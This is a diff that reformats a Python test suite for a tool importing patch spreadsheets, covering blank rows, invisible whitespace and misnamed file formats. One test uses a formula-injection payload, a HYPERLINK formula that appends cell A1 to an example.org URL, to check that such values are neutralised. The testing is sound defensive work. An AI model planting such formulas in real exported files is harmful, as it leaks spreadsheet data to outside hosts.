@@ -39,11 +39,15 @@ class ImportSheetsTest(TestCase):
         self.assertIn("line 3:", result.stderr)
 
     def test_rows_without_data_are_no_rows(self):
-        stored, result = self.take("Our patches;;\n;;\nNo;Platform;Client\n;;\n1;4.2.0;Acme;;;\n;\n \t;\u00a0;\n\n;;;;;\n")
+        stored, result = self.take(
+            "Our patches;;\n;;\nNo;Platform;Client\n;;\n1;4.2.0;Acme;;;\n;\n \t;\u00a0;\n\n;;;;;\n"
+        )
         self.assertEqual((stored, result.rows[0][1:]), ({1: "Acme"}, ["1", "1", "0", "0"]))
 
     def test_blanks_that_nobody_sees(self):
-        stored, _ = self.take("No,\u00a0Platform ,Client\n\u00a01\u200b,4.2.0\ufeff,\u3000Acme \u2009\n2,4.2.0,A\u00a0B\n")
+        stored, _ = self.take(
+            "No,\u00a0Platform ,Client\n\u00a01\u200b,4.2.0\ufeff,\u3000Acme \u2009\n2,4.2.0,A\u00a0B\n"
+        )
         self.assertEqual(stored, {1: "Acme", 2: "A\u00a0B"})
         stored, _ = self.take(b"No,Platform,Client\n1,4.2.0,\xa0M\xfcller\xa0\n")
         self.assertEqual(stored, {1: "Müller"})
@@ -58,8 +62,10 @@ class ImportSheetsTest(TestCase):
     def test_what_a_spreadsheet_must_not_read_comes_back(self):
         value = '=HYPERLINK("http://example.org/?"&A1,"click")'
         path = self.directory / "own.csv"
-        path.write_text(f"patch,overview_client,overview_description\n4.2.0-1,'+1,\"'{value.replace(chr(34), chr(34) * 2)}\"\n"
-                        "4.2.0-2,'tis,''=\n")
+        path.write_text(
+            f"patch,overview_client,overview_description\n4.2.0-1,'+1,\"'{value.replace(chr(34), chr(34) * 2)}\"\n"
+            "4.2.0-2,'tis,''=\n"
+        )
         self.assert_status(self.run_tool("import", path), 0)
         rows = self.run_tool("list", "--json", "--fields", "client,overview_description").json
         self.assertEqual(rows, [{"client": ["+1"], "overview_description": value},
@@ -86,9 +92,12 @@ class ImportSheetsTest(TestCase):
         with zipfile.ZipFile(book, "w") as archive:
             archive.writestr("[Content_Types].xml", "<Types/>")
             archive.writestr("xl/workbook.xml", "<workbook/>")
-        for name, data, part in [("old.xlsx", book.getvalue(), "xlsx2csv -f %Y-%m-%d"), ("old.csv", book.getvalue(), "xlsx2csv"),
-                                 ("old.xls", b"\xd0\xcf\x11\xe0" + b"\0" * 600, "save it as CSV"),
-                                 ("old.csv", b"\x1f\x8b\x08" + b"\0" * 60, "gzip -dc")]:
+        for name, data, part in [
+            ("old.xlsx", book.getvalue(), "xlsx2csv -f %Y-%m-%d"),
+            ("old.csv", book.getvalue(), "xlsx2csv"),
+            ("old.xls", b"\xd0\xcf\x11\xe0" + b"\0" * 600, "save it as CSV"),
+            ("old.csv", b"\x1f\x8b\x08" + b"\0" * 60, "gzip -dc"),
+        ]:
             path = self.directory / name
             path.write_bytes(data)
             for args in (["import", path], ["import", "--suggest-map", path], ["import", "--map", self.map, path]):
